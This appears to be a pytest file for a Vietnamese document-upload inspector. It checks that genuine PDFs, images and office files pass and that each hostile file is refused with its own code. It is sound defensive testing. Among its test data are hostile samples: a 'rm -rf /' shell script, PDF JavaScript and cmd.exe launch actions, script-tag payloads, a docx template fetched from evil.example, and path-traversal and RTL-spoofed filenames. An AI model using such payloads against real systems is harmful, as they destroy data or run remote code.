# SPDX-License-Identifier: EUPL-1.2
"""Uploads: honest files pass with what they are, each kind of hostile file is refused with a sentence of its own."""

import io

import pytest
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.pdf_utils.writer import copy_into_new_writer

from tinhso.kernel.documents.errors import FileRefused
from tinhso.kernel.documents.rules.intake import SCANS, inspect
from tinhso.kernel.documents.rules.names import safe_filename
from tinhso.kernel.documents.rules.sentences import SENTENCES
from tinhso.kernel.documents.rules.sniffing import DOCX, JPEG, ODT, PDF, PNG, XLSX
from tinhso.kernel.documents.tests import samples
from tinhso.kernel.documents.tests.samples import LIMIT_BYTES


def locked_pdf() -> bytes:
    writer = copy_into_new_writer(PdfFileReader(io.BytesIO(samples.pdf())))
    writer.encrypt("mat-khau", "mat-khau")
    stream = io.BytesIO()
    writer.write(stream)
    return stream.getvalue()


def refusal(data: bytes, filename: str = "giay-to.pdf", limit_bytes: int = LIMIT_BYTES) -> str:
    with pytest.raises(FileRefused) as caught:
        inspect(data, filename=filename, limit_bytes=limit_bytes)
    assert "{" not in caught.value.sentence
    return caught.value.code


@pytest.mark.parametrize(
    ("data", "media_type", "pages", "text"),
    [
        (samples.pdf(), PDF, 2, "Nguyễn Thị Bích Đào"),
        (samples.bare_pdf(), PDF, 1, ""),
        (samples.picture("JPEG"), JPEG, None, ""),
        (samples.picture("PNG"), PNG, None, ""),
        (samples.picture("JPEG") + b"\0\0\0\x18ftypmp42" + b"\0" * 64, JPEG, None, ""),  # a telephone's live picture
        (samples.docx(), DOCX, None, "Đơn đề nghị"),
        (samples.xlsx(), XLSX, None, "Bảng kê"),
        (samples.odt(), ODT, None, "Bản cam kết"),
    ],
)
def test_honest_files_pass_and_tell_what_they_are(data, media_type, pages, text):
    seen = inspect(data, filename="tệp", limit_bytes=LIMIT_BYTES)

    assert (seen.media_type, seen.pages) == (media_type, pages)
    assert text in seen.text


HOSTILE = {
    "empty": b"",
    "executable": b"MZ\x90\0" + b"\0" * 200 + b"PE",
    "virus": samples.EICAR,
    "web_page": b"\xef\xbb\xbf<!DOCTYPE html><script>alert(1)</script>",
    "archive": samples.zipped(a=b"1"),
    "old_office": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
    "image_format": b"\0\0\0\x18ftypheic" + b"\0" * 64,
    "type_unknown": "Xin chào".encode(),
    "polyglot": samples.picture() + samples.zipped(a=b"1"),
    "pdf_broken": samples.pdf()[:900],
    "pdf_encrypted": locked_pdf(),
    "pdf_script": samples.bare_pdf("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
    "pdf_launch": samples.bare_pdf("/OpenAction << /S /Launch /F (cmd.exe) >>"),
    "pdf_attachment": samples.bare_pdf("/Names << /EmbeddedFiles << /Names [] >> >>"),
    "image_broken": samples.picture()[:700],
    "image_too_big": samples.huge_png(),
    "office_broken": samples.docx()[:200],
    "office_bomb": samples.docx(**{"word/media/a.bin": b"\0" * (40 << 20)}),
    "office_macro": samples.docx(**{"word/vbaProject.bin": b"x"}),
    "office_active": samples.docx(**{"word/embeddings/oleObject1.bin": b"x"}),
}


@pytest.mark.parametrize("code", sorted(HOSTILE))
def test_each_hostile_file_is_refused_for_its_own_reason(code):
    assert refusal(HOSTILE[code], filename="giay-to.pdf") == code


@pytest.mark.parametrize(
    ("code", "data"),
    [
        ("web_page", b'<svg xmlns="x" onload="a()"></svg>'),
        ("web_page", '<?xml version="1.0"?><svg/>'.encode("utf-16")),
        ("executable", b"\x7fELF\x02\x01"),
        ("executable", b"#!/bin/sh\nrm -rf /\n"),
        ("polyglot", b"GARBAGE " + samples.pdf()),
        ("polyglot", samples.pdf() + samples.zipped(a=b"1")),
        ("polyglot", samples.picture("PNG") + samples.pdf()),
        ("polyglot", samples.picture("JPEG") + b"<script>alert(1)</script>"),
        ("pdf_script", samples.bare_pdf("/OpenAction << /S /J#61vaScript /JS (a) >>")),
        ("pdf_script", samples.bare_pdf(packed=b"<< /S /JavaScript /JS (a) >>")),
        ("pdf_launch", samples.bare_pdf(packed=b"<< /S /L#61unch /F (a) >>")),
        (
            "office_macro",
            samples.docx(**{"[Content_Types].xml": "application/vnd.ms-word.document.macroEnabled.main+xml"}),
        ),
        (
            "office_active",
            samples.docx(
                **{
                    "word/_rels/settings.xml.rels": '<Relationship Id="a" Type="http://x/attachedTemplate" '
                    'Target="http://evil.example/a.dotm" TargetMode="External"/>'
                }
            ),
        ),
        ("office_active", samples.docx(text="</w:t><!ENTITY a 'b'>")),
        ("virus", samples.docx(**{"word/media/a.jpg": samples.EICAR})),
        ("archive", samples.docx(**{"../../etc/passwd": b"x"})),
    ],
)
def test_disguises_do_not_help(code, data):
    assert refusal(data) == code


def test_a_file_over_the_limit_is_told_the_limit():
    with pytest.raises(FileRefused, match="20 MB") as caught:
        inspect(b"%PDF-1.7" + b"0" * LIMIT_BYTES, filename="a.pdf", limit_bytes=LIMIT_BYTES)
    assert caught.value.code == "too_large"


def test_a_pdf_of_too_many_pages_is_refused():
    kids = samples.bare_pdf().replace(b"/Kids [3 0 R] /Count 1", b"/Kids [" + b"3 0 R " * 1200 + b"] /Count 1200")
    # pdfium rebuilds the table whose places have moved, as other readers do.
    assert refusal(kids) == "pdf_too_long"


def test_a_place_for_scans_refuses_office_files_and_names_what_it_takes():
    with pytest.raises(FileRefused, match="PDF, JPEG, PNG") as caught:
        inspect(samples.docx(), filename="a.docx", limit_bytes=LIMIT_BYTES, allowed=SCANS)
    assert caught.value.code == "type_not_allowed"


def test_a_hyperlink_in_an_office_file_is_harmless():
    link = '<Relationship Type="http://x/hyperlink" Target="https://a.example" TargetMode="External"/>'

    assert (
        inspect(
            samples.docx(**{"word/_rels/document.xml.rels": link}), filename="a.docx", limit_bytes=LIMIT_BYTES
        ).media_type
        == DOCX
    )


def test_every_sentence_says_what_to_do():
    assert all("Hãy" in sentence and sentence.endswith(".") for sentence in SENTENCES.values())
    assert len(set(SENTENCES.values())) == len(SENTENCES)


@pytest.mark.parametrize(
    ("given", "media_type", "expected"),
    [
        ("../../etc/passwd", PDF, "passwd.pdf"),
        ("C:\\Users\\a\\Đơn.pdf", PDF, "Đơn.pdf"),
        ("hinh\u202egnp.exe", PNG, "hinhgnp.exe.png"),
        ("a\0b\nc.pdf", PDF, "abc.pdf"),
        ("Đơn.pdf", PDF, "Đơn.pdf"),
        ("", JPEG, "tep.jpg"),
        ("...", DOCX, "tep.docx"),
        ("x" * 400 + ".pdf", PDF, "x" * 146 + ".pdf"),
    ],
)
def test_names_are_made_safe(given, media_type, expected):
    assert safe_filename(given, media_type) == expected
